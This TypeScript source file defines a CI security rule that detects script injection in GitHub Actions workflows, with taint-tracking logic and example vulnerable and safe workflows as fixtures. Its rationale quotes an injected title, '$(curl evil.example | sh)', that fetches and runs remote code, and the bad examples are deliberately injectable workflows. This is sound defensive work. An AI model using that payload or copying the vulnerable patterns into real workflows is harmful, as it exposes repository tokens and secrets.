import { defineRule, type Evidence, type Facts, type Finding, type Flow, flowsIn, judge, type PlacedStep, type PlacedText, type Setting } from 'policy-audit';
import { workflow } from './shared/examples.ts';
import { freeText, inputName } from './shared/untrusted.ts';

/** Inputs of actions that are run as code, by the name of the action. */
const codeInputs: ReadonlyMap<string, readonly string[]> = new Map([
  ['actions/github-script', ['script']],
  ['azure/cli', ['inlinescript']],
  ['azure/powershell', ['inlinescript']],
  ['appleboy/ssh-action', ['script']],
  ['addnab/docker-run-action', ['run']],
  ['nick-fields/retry', ['command', 'on_retry_command']],
  ['nick-invision/retry', ['command']],
  ['cloudflare/wrangler-action', ['command', 'precommands', 'postcommands']],
  ['reactivecircus/android-emulator-runner', ['script']],
  ['devcontainers/ci', ['runcmd']],
  ['8398a7/action-slack', ['custom_payload']],
  ['amadevus/pwsh-script', ['script']],
  ['jannekem/run-python-script-action', ['script']],
  ['mikefarah/yq', ['cmd']],
]);

const scriptsOf = ({ step }: PlacedStep): readonly PlacedText[] => {
  const name = step.uses?.value.toLowerCase().replace(/@.*/, '') ?? '';
  const inputs = step.with.filter((setting) => codeInputs.get(name)?.includes(setting.name.toLowerCase())).map(({ value }) => value);
  return step.run ? [step.run, ...inputs] : inputs;
};

/** A workflow, or an action. */
type Owner = Pick<PlacedStep, 'path' | 'workflow'>;

/** What the workflows and actions of the repository give an input where they call its owner. */
const givenTo = (
  { path, workflow: owner }: Owner,
  input: string,
  { workflows, steps }: Facts['workflows'],
): readonly { readonly by: Owner; readonly value?: PlacedText | undefined }[] => {
  const of = (settings: readonly Setting[]): PlacedText | undefined => settings.find(({ name }) => name.toLowerCase() === input)?.value;
  if (owner)
    return workflows.flatMap((one) =>
      one.jobs.flatMap(({ uses, with: given }) => (uses?.value === `./${path}` ? [{ by: { path: one.path, workflow: one }, value: of(given) }] : [])),
    );
  const folder = `./${path.replace(/\/action\.ya?ml$/, '')}`;
  return steps.flatMap((placed) => (placed.step.uses?.value.replace(/\/$/, '') === folder ? [{ by: placed, value: of(placed.step.with) }] : []));
};

const maxCalls = 5;

/** May somebody write the text of this input? Nobody does where all callers leave it to its default or give a text of their own. Actions outside of .github are there for others, too. */
const isFilledIn = (owner: Owner, input: string, all: Facts['workflows'], calls = 0): boolean => {
  if (owner.workflow) {
    const triggers = owner.workflow.triggers.filter(({ textInputs }) => textInputs.some((name) => name.toLowerCase() === input));
    if (triggers.length === 0) return false;
    if (triggers.some(({ name }) => name !== 'workflow_call')) return true;
  } else if (!/^\.(?:github|gitea|forgejo)\//.test(owner.path)) return true;
  const given = givenTo(owner, input, all);
  if (given.length === 0 || calls > maxCalls) return true;
  return given.some(({ by, value }) => value !== undefined && flowsIn(value).some((flow) => isWritten(by, flow, all, calls + 1)));
};

/** What steps put out nobody can tell. */
const isWritten = (owner: Owner, flow: Flow, all: Facts['workflows'], calls: number): boolean => {
  const input = inputName(flow);
  return freeText(flow) !== undefined || /^(?:steps|needs)$/.test(flow.path[0] ?? '') || (input !== undefined && isFilledIn(owner, input, all, calls));
};

const judgeFlow = (placed: PlacedStep, flow: Flow, all: Facts['workflows'], followed = false): Finding | undefined => {
  const { path } = placed;
  const at = { path, line: flow.line, column: flow.column };
  const text = freeText(flow);
  if (text) return { message: `${text} is expanded inside a script, so its text runs as code.`, at };
  const input = inputName(flow);
  if (input !== undefined && isFilledIn(placed, input, all))
    return { message: `The input "${input}" is expanded inside a script, so its text runs as code.`, at, severity: 'medium' };
  const [context = '', ...names] = flow.path;
  if (followed) return undefined;
  const output = outputBehind(placed, flow);
  const behind = output && flowsIn(output.value).flatMap((each) => judgeFlow(placed, each, all, true) ?? [])[0];
  if (behind) return { ...behind, at, related: [{ at: behind.at, note: `${flow.path.join('.')} is set here` }] };
  const name = names.join('.');
  for (const setting of settingsBehind(placed, context).filter((each) => each.name.toLowerCase() === name)) {
    const behind = flowsIn(setting.value).flatMap((each) => judgeFlow(placed, each, all, true) ?? [])[0];
    if (behind) return { ...behind, at, related: [{ at: behind.at, note: `${context}.${name} is set here` }] };
    // The innermost variable of a name is the one that counts; a matrix takes each of its values in turn.
    if (context === 'env') return undefined;
  }
  return undefined;
};

/** `needs.JOB.outputs.NAME`. What the steps of that job write into it nobody can tell. */
const outputBehind = ({ workflow: owner }: PlacedStep, { path: [context, job, key, ...names] }: Flow): Setting | undefined =>
  context === 'needs' && key === 'outputs'
    ? owner?.jobs.find(({ id }) => id.toLowerCase() === job?.toLowerCase())?.outputs.find(({ name }) => name.toLowerCase() === names.join('.').toLowerCase())
    : undefined;

const settingsBehind = ({ workflow: owner, job, step }: PlacedStep, context: string): readonly Setting[] =>
  context === 'env' ? [...step.env, ...(job?.env ?? []), ...(owner?.env ?? [])] : context === 'matrix' ? (job?.matrix ?? []) : [];

export default defineRule({
  id: 'ci/workflow-script-injection',
  title: 'Untrusted text reaches scripts only through variables',
  severity: 'high',
  rationale: 'An expression is put into the script before the shell starts. A title such as $(curl evil.example | sh) then runs with the token and the secrets of the job.',
  remediation: 'Pass the value in an environment variable of the step (env: TITLE: ${{ … }}) and write "$TITLE" in the script.',
  practices: ['ci/no-template-injection'],
  references: [
    { standard: 'OSPS Baseline', control: 'OSPS-BR-01.01', url: 'https://baseline.openssf.org/' },
    { standard: 'CWE', control: 'CWE-94', url: 'https://cwe.mitre.org/data/definitions/94.html' },
    { standard: 'GitHub', control: 'Script injections', url: 'https://docs.github.com/en/actions/concepts/security/script-injections' },
  ],
  since: '0.1.0',
  needs: ['workflows'],
  check({ workflows }) {
    const findings: Finding[] = [];
    const evidence: Evidence[] = [];
    for (const placed of workflows.steps) {
      const scripts = scriptsOf(placed);
      const found = scripts.flatMap((script) => flowsIn(script).flatMap((flow) => judgeFlow(placed, flow, workflows) ?? []));
      findings.push(...found);
      const [script] = scripts;
      if (script && found.length === 0) evidence.push({ at: { path: placed.path, line: script.line, column: script.column }, note: 'a script without free text of an event' });
    }
    return judge(findings, evidence, 'No workflow or action of this repository runs a script.');
  },
  examples: {
    bad: [
      {
        name: 'the title of an issue',
        files: workflow('      - run: |\n          make\n          echo "${{ github.event.issue.title }}"\n'),
        expect: { fail: ['.github/workflows/ci.yml:9'] },
      },
      { name: 'by index', files: workflow("      - run: echo ${{ github['event']['issue'].body }}\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
      { name: 'the whole event', files: workflow("      - run: echo '${{ toJSON(github.event) }}'\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
      { name: 'all commits', files: workflow("      - run: echo ${{ join(github.event.commits.*.message, ' ') }}\n"), expect: { fail: ['.github/workflows/ci.yml:7'] } },
      {
        name: 'a comment of the script is expanded too',
        files: workflow('      - run: |\n          # ${{ github.head_ref }}\n          make\n'),
        expect: { fail: ['.github/workflows/ci.yml:8'] },
      },
      {
        name: 'a script in an input',
        files: workflow('      - uses: actions/github-script@v8\n        with:\n          script: log("${{ github.event.comment.body }}")\n'),
        expect: { fail: ['.github/workflows/ci.yml:9'] },
      },
      {
        name: 'through the matrix',
        files: {
          '.github/workflows/ci.yml':
            'on: pull_request\njobs:\n  a:\n    strategy:\n      matrix:\n        name: [main, "${{ github.head_ref }}"]\n    steps:\n      - run: echo ${{ matrix.name }}\n',
        },
        expect: { fail: ['.github/workflows/ci.yml:8'] },
      },
      {
        name: 'through the output of another job',
        files: {
          '.github/workflows/ci.yml':
            'on: issues\njobs:\n  a:\n    outputs: { title: "${{ github.event.issue.title }}" }\n    steps: [{ run: make }]\n  b:\n    needs: a\n    steps:\n      - run: echo ${{ needs.a.outputs.title }}\n',
        },
        expect: { fail: ['.github/workflows/ci.yml:9'] },
      },
      {
        name: 'through env, but as an expression',
        files: workflow('      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo "${{ env.T }}"\n'),
        expect: { fail: ['.github/workflows/ci.yml:9'] },
      },
      {
        name: 'an input of an action of the repository itself, which a workflow fills in',
        files: {
          ...workflow('      - uses: ./.github/actions/lint\n        with: { version: "${{ steps.x.outputs.v }}" }\n'),
          '.github/actions/lint/action.yml': 'inputs:\n  version: {}\nruns:\n  using: composite\n  steps:\n    - run: ./lint.sh ${{ inputs.version }}\n      shell: bash\n',
        },
        expect: { fail: ['.github/actions/lint/action.yml:6'] },
      },
      {
        name: 'a text input',
        files: workflow('      - run: deploy ${{ inputs.where }}\n', '{ workflow_dispatch: { inputs: { where: { type: string } } } }'),
        expect: { fail: ['.github/workflows/ci.yml:7'] },
      },
    ],
    good: [
      {
        name: 'an input of a workflow of the repository itself, through an action of it',
        files: {
          '.github/workflows/ci.yml': 'on: push\npermissions: {}\njobs:\n  a:\n    uses: ./.github/workflows/called.yml\n    with: { arch: arm64 }\n',
          '.github/workflows/called.yml':
            'on: { workflow_call: { inputs: { arch: { type: string } } } }\njobs:\n  a:\n    steps:\n      - run: build ${{ inputs.arch }}\n      - uses: ./.github/actions/pack\n        with: { arch: "${{ inputs.arch }}" }\n',
          '.github/actions/pack/action.yml': 'inputs:\n  arch: {}\nruns:\n  using: composite\n  steps:\n    - run: pack ${{ inputs.arch }}\n      shell: bash\n',
        },
        expect: 'pass',
      },
      {
        name: 'an input of an action of the repository itself, which its workflows give plain text or nothing',
        files: {
          ...workflow('      - uses: ./.github/actions/lint\n      - uses: ./.github/actions/lint\n        with: { version: v3 }\n'),
          '.github/actions/lint/action.yml':
            'inputs:\n  version: { default: v2 }\nruns:\n  using: composite\n  steps:\n    - run: ./lint.sh ${{ inputs.version }}\n      shell: bash\n',
        },
        expect: 'pass',
      },
      { name: 'through a variable', files: workflow('      - env:\n          T: ${{ github.event.issue.title }}\n        run: echo "$T"\n'), expect: 'pass' },
      { name: 'numbers and hashes', files: workflow('      - run: echo ${{ github.event.issue.number }} ${{ github.sha }}\n'), expect: 'pass' },
      { name: 'only compared', files: workflow("      - run: echo ${{ github.head_ref == 'main' && 'yes' || 'no' }}\n"), expect: 'pass' },
      {
        name: 'a choice',
        files: workflow('      - run: deploy ${{ inputs.where }}\n', '{ workflow_dispatch: { inputs: { where: { type: choice, options: [a, b] } } } }'),
        expect: 'pass',
      },
      { name: 'no scripts', files: workflow('      - uses: ./setup\n'), expect: 'not-applicable' },
    ],
  },
});
